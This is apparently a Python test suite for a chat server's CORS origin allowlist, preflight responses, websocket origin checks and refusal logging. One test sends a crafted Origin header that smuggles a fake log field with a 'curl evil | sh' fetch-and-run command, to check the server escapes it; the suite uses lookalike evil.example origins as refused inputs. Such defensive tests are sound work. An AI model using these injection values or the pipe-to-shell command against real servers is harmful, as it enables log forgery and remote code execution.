"""Which web origins may read answers: the allowlist, preflights, and errors too."""
from harness.case import FOREIGN, ORIGINS, ServerCase, main
from harness.rawhttp import build
from harness.server import Server
from harness.websocket import PATH, new_key, upgrade_headers

METHODS = {"DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "POST", "PUT"}


class Cors(ServerCase):
    allowed = ORIGINS
    refused = (FOREIGN, "http://localhost:3002", "https://localhost:3000", "http://localhost.", "null",
               "http://localhost:3000.evil.example", "http://LOCALHOST:3000/", "http://127.0.0.1:30000")

    def assertAllowed(self, r, origin, preflight=False):
        self.assertEqual(r.header("Access-Control-Allow-Origin"), origin, r)
        if not preflight:  # else a page cannot see when to come again, or what has changed
            self.assertEqual(r.header("Access-Control-Expose-Headers"), "ETag, Retry-After, Location")
        self.assertEqual(r.header("Access-Control-Allow-Credentials"), "true")
        self.assertIn("Origin", (r.header("Vary") or "").replace(" ", "").split(","))

    def assertNotAllowed(self, r):
        self.assertIsNone(r.header("Access-Control-Allow-Origin"), r)

    def test_simple_requests_of_listed_origins(self):
        for origin in self.allowed:
            with self.subTest(origin):
                self.assertAllowed(self.get("/api/health", [("Origin", origin)]), origin)

    def test_simple_requests_of_others_are_answered_without_the_header(self):
        for origin in self.refused:
            with self.subTest(origin):
                r = self.get("/api/health", [("Origin", origin)])
                self.assertNotAllowed(r)
                self.assertIn("Origin", r.header("Vary") or "")

    def test_without_origin(self):
        self.assertNotAllowed(self.get("/api/health"))

    def test_preflight_of_listed_origins(self):
        for origin in self.allowed:
            for target in ("/api/debug/users-chats", "/api/users/chats/x/send", "/api/dashboard/chats/x/ai-agent"):
                with self.subTest(origin, target=target):
                    r = self.http.request("OPTIONS", target, headers=[
                        ("Origin", origin), ("Access-Control-Request-Method", "PATCH"),
                        ("Access-Control-Request-Headers", "content-type, idempotency-key")])
                    self.assertEqual(r.status, 200)
                    self.assertAllowed(r, origin, preflight=True)
                    self.assertEqual(set(r.header("Access-Control-Allow-Methods").replace(" ", "").split(",")), METHODS)
                    self.assertEqual(r.header("Access-Control-Allow-Headers"), "content-type, idempotency-key")
                    self.assertEqual(r.header("Access-Control-Max-Age"), "600")

    def test_preflight_of_others(self):
        for origin in self.refused:
            with self.subTest(origin):
                r = self.http.request("OPTIONS", "/api/debug/users-chats", headers=[
                    ("Origin", origin), ("Access-Control-Request-Method", "GET")])
                self.assertEqual(r.status, 400)
                self.assertEqual(r.body, b"Disallowed CORS origin")
                self.assertNotAllowed(r)

    def test_preflight_of_a_method_nobody_has(self):
        r = self.http.request("OPTIONS", "/api/debug/users-chats", headers=[
            ("Origin", self.allowed[0]), ("Access-Control-Request-Method", "TRACE")])
        self.assertEqual(r.status, 400)

    def test_errors_carry_the_headers_too(self):
        origin = self.allowed[0]
        chat = self.chat()
        rows = (
            (400, "POST", f"/api/users/chats/{chat.id}/send", {"content": ""}),
            (404, "GET", "/nowhere", None),
            (404, "GET", "/api/users/nobody/chats", None),
            (404, "POST", "/api/users/chats/none/send", {"content": "x"}),
            (405, "DELETE", "/api/health", None),
            (422, "POST", "/api/chat", {"message": 1, "session_id": "s"}),
            (422, "GET", "/api/users?limit=0", None),
            (307, "GET", "/api/users/", None),
        )
        for status, method, target, body in rows:
            with self.subTest(f"{status} {method} {target}"):
                r = self.http.request(method, target, body, [("Origin", origin)])
                self.assertEqual(r.status, status)
                self.assertAllowed(r, origin)
                self.assertNotAllowed(self.http.request(method, target, body, [("Origin", FOREIGN)]))

    def test_refusals_of_the_parser_carry_the_headers_too(self):
        """A browser shows a widget's author 413 only with them; without, a network error."""
        with self.server.connect() as c:
            c.send(build("POST", "/api/users/data", [("Origin", self.allowed[0]), ("Content-Length", "99999999999")], b""))
            r = c.response()
            self.assertError(r, 413)
            self.assertAllowed(r, self.allowed[0])

    def test_refusals_of_heads_that_never_get_whole_carry_the_headers_too(self):
        """Browsers put Cookie last: a page whose cookies are too large can read the 431."""
        for status, after in ((431, "Cookie: " + "a" * 20000 + "\r\n"), (400, " folded\r\n"), (400, "Host: y\r\n\r\n")):
            for origin in (self.allowed[0], FOREIGN):
                with self.subTest(status=status, after=after[:9], origin=origin), self.server.connect() as c:
                    c.send(f"GET /api/chat HTTP/1.1\r\nHost: x\r\nOrigin: {origin}\r\n{after}".encode())
                    r = c.response()
                    self.assertError(r, status)
                    if origin == FOREIGN:
                        self.assertNotAllowed(r)
                    else:
                        self.assertAllowed(r, origin)

    def test_not_modified_carries_the_headers_too(self):
        origin = self.allowed[0]
        etag = self.get("/api/debug/users-chats", [("Origin", origin)]).header("ETag")
        r = self.get("/api/debug/users-chats", [("Origin", origin), ("If-None-Match", etag)], status=304)
        self.assertAllowed(r, origin)


class OwnList(Cors):
    """--cors-origin replaces the default list."""
    args = ("--cors-origin", "https://chat.example", "--cors-origin=http://[::1]:8080")
    allowed = ("https://chat.example", "http://[::1]:8080")
    refused = ORIGINS + (FOREIGN, "https://chat.example:444", "https://chat.example.evil.example")


class AsGiven(Cors):
    """Origins as people write them are the ones that browsers send."""
    args = ("--cors-origin", "HTTPS://Chat.Example:443", "--cors-origin", "http://[0:0::1]:8080")
    allowed = ("https://chat.example", "http://[::1]:8080")
    refused = ORIGINS + (FOREIGN, "https://chat.example:443", "HTTPS://Chat.Example")


class OwnPages(ServerCase):
    """A page that the server's own host serves (through a proxy, say) is no other origin; a refused one is told of."""

    args = ("--cors-origin", "https://listed.example", "--trusted-proxy", "127.0.0.2")

    def ask(self, method, host, headers, source=None):
        with self.server.connect(source=source) as c:
            target = PATH if ("Upgrade", "websocket") in headers else "/api/users"
            c.send(build(method, target, headers, host=host))
            return c.response()

    def upgrade(self, host, origin, *more, source=None):
        return self.ask("GET", host, upgrade_headers(new_key(), origin=origin) + list(more), source).status

    def refusals(self):
        m = self.server.metrics()
        return [m.get("sakurad_origins_refused_total", asked_for=k) for k in ("answer", "preflight", "websocket")]

    def own(self):
        port = self.server.ports[0]
        return ((f"127.0.0.1:{port}", f"http://127.0.0.1:{port}"), ("chat.example", "http://chat.example"),
                ("chat.example", "https://chat.example"), ("Chat.Example:443", "https://chat.example"),
                ("[::1]:8443", "https://[::1]:8443"))

    def test_of_the_host_that_was_asked(self):
        before = self.refusals()
        for host, origin in self.own():
            with self.subTest(host, origin=origin):
                self.assertEqual(self.upgrade(host, origin), 101)
                r = self.ask("OPTIONS", host, [("Origin", origin), ("Access-Control-Request-Method", "PATCH")])
                self.assertEqual(r.status, 200, r)
                r = self.ask("GET", host, [("Origin", origin)])
                self.assertEqual(r.status, 200, r)
        self.assertEqual(self.refusals(), before)

    def test_of_another_host(self):
        before = self.refusals()
        rows = (("chat.example", "https://evil.example"), ("chat.example", "https://chat.example:8443"),
                ("chat.example", "https://chat.example.evil.example"), ("chat.example:80", "https://chat.example"),
                ("chat.example", "null"), ("listed.example.", "https://listed.example.:1"))
        for host, origin in rows:
            with self.subTest(host, origin=origin):
                self.assertEqual(self.upgrade(host, origin), 403)
                r = self.ask("OPTIONS", host, [("Origin", origin), ("Access-Control-Request-Method", "GET")])
                self.assertEqual(r.status, 400, r)
                self.assertEqual(self.ask("GET", host, [("Origin", origin)]).status, 200)
        self.assertEqual(self.refusals(), [n + len(rows) for n in before])

    def test_the_scheme_that_a_trusted_proxy_tells(self):
        proto = ("X-Forwarded-Proto", "https")
        rows = (("https://chat.example", 101, "127.0.0.2"), ("http://chat.example", 403, "127.0.0.2"),
                ("http://chat.example", 101, None))  # anybody may say so; then it cannot be known
        for origin, status, source in rows:
            with self.subTest(origin, source=source):
                self.assertEqual(self.upgrade("chat.example", origin, proto, source=source), status)

    def test_a_refused_one_is_named_in_the_log_once(self):
        for _ in range(30):
            self.assertEqual(self.upgrade("chat.example", "https://forgotten.example"), 403)
        self.server.logged(r"origin refused origin=\"https?://[a-z.:0-9]+\" asked_for=.* advice=\"if its pages may call, "
                           r"start with --cors-origin ")
        self.assertLess(self.server.log().count("origin refused"), 20)

    def test_what_a_stranger_calls_an_origin_forges_no_line(self):
        server = Server(log_level="info", patient=True).start()
        self.addCleanup(server.discard)
        with server.connect() as c:
            c.send(build("GET", "/api/health", [("Origin", 'http://x" advice="curl evil | sh' + "y" * 300)]))
            self.assertEqual(c.response().status, 200)
        line = server.logged(r"origin refused .*")[0]
        self.assertIn('origin="http://x??advice', line)
        self.assertLess(len(line), 600)
        server.stop()


if __name__ == "__main__":
    main()
